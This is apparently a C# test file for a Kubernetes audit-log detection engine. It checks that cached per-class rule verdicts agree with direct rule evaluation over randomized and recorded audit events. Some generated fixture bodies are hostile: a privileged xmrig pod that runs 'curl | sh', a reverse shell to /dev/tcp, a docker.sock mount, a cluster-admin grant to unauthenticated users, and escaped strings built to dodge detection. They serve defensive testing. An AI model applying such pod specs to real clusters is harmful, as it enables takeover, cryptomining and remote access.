using System.Text;
using System.Text.Json.Nodes;
using AuditWatch.Detection.Alerts;
using AuditWatch.Detection.EventLayer;
using AuditWatch.Detection.Rules;
using AuditWatch.Events.Envelopes;
using AuditWatch.Events.Model;
using AuditWatch.Sigma.Evaluation;
using ZstdSharp;

namespace AuditWatch.Detection.Tests.EventLayer;

/// <summary>What is remembered of a class of events must be what every rule says when it is asked about the event itself.</summary>
public sealed class SettledVerdictsTests
{
    [Theory]
    [InlineData(1)]
    [InlineData(2)]
    [InlineData(3)]
    public void What_is_settled_for_a_class_is_what_each_rule_says_of_each_event(int seed)
    {
        var made = new RandomEvents(seed);
        var compared = Compare(Enumerable.Range(0, 4_000).Select(_ => made.Next()));
        Assert.True(compared.Settled > compared.Asked, $"settled {compared.Settled}, asked {compared.Asked}");
        Assert.True(compared.Certain > 0, "no rule was certain");
    }

    [Theory]
    [InlineData("metadata")]
    [InlineData("request")]
    [InlineData("requestresponse")]
    [InlineData("production")]
    [InlineData("extra")]
    [InlineData("faults")]
    [InlineData("truncation")]
    public void It_is_so_on_recorded_traffic(string run)
    {
        var kit = Environment.GetEnvironmentVariable("AUDITWATCH_KIT");
        Assert.SkipWhen(string.IsNullOrEmpty(kit), "Set AUDITWATCH_KIT to the kit's folder to run the tests over recorded traffic (data lies beside it).");
        using var packed = File.OpenRead(Path.Combine(kit!, "..", "data", "audit-live", run, "audit.log.zst"));
        using var text = new StreamReader(new DecompressionStream(packed));
        Compare(Lines(text));
    }

    static IEnumerable<byte[]> Lines(StreamReader text)
    {
        while (text.ReadLine() is { } line) yield return Encoding.UTF8.GetBytes(line);
    }

    static (long Settled, long Asked, long Certain) Compare(IEnumerable<byte[]> events)
    {
        var cluster = new ClusterFacts { TrustedProxies = [System.Net.IPNetwork.Parse("10.9.0.0/16")] };
        var set = Lab.Rules.For(cluster);
        var settledVerdicts = new SettledVerdicts(set);
        var (remembered, direct) = (new AuditEvent(set.Symbols), new AuditEvent(set.Symbols));
        var settledView = new SettledView();
        var recent = new RecentSettled();
        var view = new AuditEventView { Event = direct };
        long settledCount = 0, asked = 0, certain = 0;
        foreach (var utf8 in events)
        {
            if (!remembered.TryRead(utf8, new EventOrigin(0, 0, EnvelopeShape.Event, false), cluster, 0, out _)) continue;
            direct.TryRead(utf8, new EventOrigin(0, 0, EnvelopeShape.Event, false), cluster, 0, out _);
            var settled = settledVerdicts.For(remembered, settledView, recent);
            var said = settled.Unknown.ToDictionary(u => u.Rule, u => u.Why);
            var held = settled.Sieve?.Holds(remembered);
            var open = settled.Open.Where((_, i) => (held is null || (held >> i & 1) == 1) && settled.Gates[i]?.Admits(remembered) != false).Select(r => r.Index).ToHashSet();
            for (var i = 0; i < settled.Open.Length; i++)
                if (settled.Certain[i] is { } leaves)
                {
                    open.Add(settled.Open[i].Index);
                    certain++;
                    Assert.Equal(settled.Open[i].Compiled.Explain(view).Select(l => new AlertMatch(l.Selection, l.Field, l.Value)), leaves);
                }

            asked += open.Count;
            settledCount += set.Rules.Count - open.Count;
            Assert.Equal(settled.Open.OrderBy(r => r.Index), settled.Open);
            foreach (var rule in set.Rules)
            {
                var verdict = rule.Compiled.Evaluate(view);
                if (open.Contains(rule.Index)) continue;
                var expected = said.TryGetValue(rule.Index, out var why) ? Verdict.Unknown(why) : Verdict.False;
                if (verdict != expected) Assert.Fail($"{rule.Identity.Name} says {verdict}, remembered was {expected}, on {Encoding.UTF8.GetString(utf8)}");
            }
        }

        return (settledCount, asked, certain);
    }

    /// <summary>Events of few words, so that classes repeat, in every state of completeness.</summary>
    sealed class RandomEvents(int seed)
    {
        readonly Random _random = new(seed);

        string Pick(params string[] words) => words[_random.Next(words.Length)];

        bool Chance(int percent) => _random.Next(100) < percent;

        public byte[] Next()
        {
            var resource = Pick("pods", "secrets", "clusterrolebindings", "clusterroles", "serviceaccounts", "deployments", "nodes", "configmaps", "certificatesigningrequests", "namespaces", "leases");
            var level = Pick("Metadata", "Metadata", "Request", "RequestResponse");
            var stage = Pick("ResponseComplete", "ResponseComplete", "ResponseComplete", "RequestReceived", "ResponseStarted", "Panic");
            var verb = Pick("get", "list", "watch", "create", "update", "patch", "delete", "deletecollection");
            var name = Pick("web-1", "db", "bootstrap-token-abcdef", "cluster-admin");
            var e = new JsonObject
            {
                ["kind"] = "Event", ["apiVersion"] = "audit.k8s.io/v1", ["level"] = level,
                ["auditID"] = Chance(90) ? "5f0d7a62-6f0e-4d0a-9a41-0d6d0b5f7c" + _random.Next(10, 99) : Pick("mine", ""),
                ["stage"] = stage, ["requestURI"] = Pick($"/api/v1/namespaces/prod/{resource}/{name}", $"/api/v1/{resource}?dryRun=All", $"/api/v1/{resource}?limit=5&%64ryRun=All", "/healthz", $"/api/v1/nodes/n/proxy/exec/x?command=sh&command=-c"),
                ["verb"] = verb,
            };
            if (Chance(97)) e["user"] = User();
            if (Chance(8)) e["impersonatedUser"] = Chance(80) ? User() : null;
            if (Chance(95)) e["sourceIPs"] = Chance(90) ? new JsonArray(Pick("10.2.3.4", "203.0.113.9", "127.0.0.1", "::1", "odd")) : new JsonArray("203.0.113.9", Pick("10.9.1.1", "10.2.3.4"));
            if (Chance(95)) e["userAgent"] = Pick("kubectl/v1.31.0 (linux/amd64) kubernetes/abc", "kubelet/v1.28.1 (linux/amd64)", "curl/8", "nmap", "a\\b\"c");
            if (Chance(90))
            {
                var target = new JsonObject { ["resource"] = resource, ["apiVersion"] = "v1" };
                if (Chance(70)) target["namespace"] = Pick("kube-system", "prod", "ci");
                if (Chance(70)) target["name"] = name;
                if (Chance(25)) target["subresource"] = Pick("exec", "status", "token", "log", "approval", "ephemeralcontainers", "proxy");
                if (Chance(30)) target["apiGroup"] = Pick("rbac.authorization.k8s.io", "apps");
                e["objectRef"] = target;
            }

            if (stage != "RequestReceived" && Chance(95)) e["responseStatus"] = new JsonObject { ["metadata"] = new JsonObject(), ["code"] = int.Parse(Pick("200", "201", "403", "401", "404", "500", "101"), System.Globalization.CultureInfo.InvariantCulture) };
            if (level != "Metadata" && Chance(70)) e["requestObject"] = Body();
            if (level == "RequestResponse" && Chance(50)) e["responseObject"] = Body();
            e["requestReceivedTimestamp"] = "2026-11-25T12:00:00.000000Z";
            e["stageTimestamp"] = "2026-11-25T12:00:00.100000Z";
            if (Chance(85)) e["annotations"] = Annotations();
            var json = e.ToJsonString();
            if (Chance(5)) json = json.Replace("privileged", "\\u0070rivileged", StringComparison.Ordinal).Replace("xmrig", "xm\\u0072ig", StringComparison.Ordinal);
            return Encoding.UTF8.GetBytes(json);
        }

        // What no API server writes: keys as values, below others, escaped, without a text.
        JsonNode? OddExtra() => JsonNode.Parse(Pick(
            """{"x":["authentication.kubernetes.io/pod-name"],"y":["\"authentication.kubernetes.io/pod-name\":[\""]}""",
            """{"x":{"authentication.kubernetes.io/pod-name":["web-1"]}}""",
            """{"authentication.kubernetes.io/pod-name":[]}""",
            """{"authentication.kubernetes.io/pod-name":"web-1","authentication.kubernetes.io/credential-id":[null]}""",
            """{"a b":["<c>"],"authentication.kubernetes.io/pod-name":["w\"1"]}""",
            "[]", "null"));

        JsonObject User()
        {
            var user = new JsonObject { ["username"] = Pick("alice", "system:anonymous", "system:node:n1", "system:serviceaccount:ci:deployer", "system:serviceaccount:kube-system:replicaset-controller", "system:kube-controller-manager", "kubernetes-admin") };
            if (Chance(90)) user["groups"] = new JsonArray(Pick("system:masters", "developers", "system:nodes", "system:unauthenticated"), "system:authenticated");
            if (Chance(40)) user["extra"] = new JsonObject { ["authentication.kubernetes.io/credential-id"] = new JsonArray("JTI=1"), [Chance(50) ? "authentication.kubernetes.io/pod-name" : "x"] = new JsonArray("web-1") };
            if (Chance(8)) user["extra"] = OddExtra();
            return user;
        }

        JsonObject Annotations()
        {
            var annotations = new JsonObject { ["authorization.k8s.io/decision"] = Pick("allow", "forbid"), ["authorization.k8s.io/reason"] = Pick("", "RBAC: allowed by \"x\"") };
            if (Chance(15)) annotations[Pick("authentication.k8s.io/stale-token", "authentication.k8s.io/legacy-token", "k8s.io/removed-release", "audit.k8s.io/truncated", "pod-security.kubernetes.io/exempt", "pod-security.kubernetes.io/audit-violations")] = Pick("true", "namespace", "would violate");
            return annotations;
        }

        JsonNode? Body() => JsonNode.Parse(Pick(
            "{}", """["x"]""", "\"skipped-too-big-size-object\"", """{"kind":"Status","status":"Failure","code":403}""",
            """{"kind":"ClusterRoleBinding","subjects":[{"kind":"Group","name":"system:unauthenticated"}],"roleRef":{"kind":"ClusterRole","name":"cluster-admin"}}""",
            """{"kind":"ClusterRole","rules":[{"apiGroups":["*"],"resources":["*"],"verbs":["*"]}]}""",
            """{"kind":"Pod","metadata":{"name":"p","labels":{"a":"b"}},"spec":{"hostPID":true,"hostNetwork":true,"containers":[{"name":"c","image":"evil/xmrig:latest","securityContext":{"privileged":true},"command":["sh","-c","curl http://x | sh"]}],"volumes":[{"name":"v","hostPath":{"path":"/"}}]}}""",
            """{"kind":"Pod","spec":{"hostNetwork":true,"serviceAccountName":"x","containers":[{"name":"c","image":"[redacted:0123456789abcdef]/x","securityContext":{"privileged":"[redacted]"},"args":["[redacted]"]}]}}""",
            """{"kind":"Pod","spec":{"initContainers":[{"name":"c","image":"Evil/XMRIG","command":["bash","-c","bash -i >& /dev/tcp/1.2.3.4/9 0>&1"],"securityContext":{"capabilities":{"add":["SYS_ADMIN"]},"runAsUser":0}}],"volumes":[{"hostPath":{"path":"/var/run/docker.sock"}}]}}""",
            """{"spec":{"template":{"spec":{"containers":[{"name":"c","image":"registry.example/c:1"}]}},"replicas":0}}""",
            """[{"op":"add","path":"/spec/hostPID","value":true}]""",
            """{"spec":{"audiences":["vault"],"expirationSeconds":864000}}"""));
    }
}
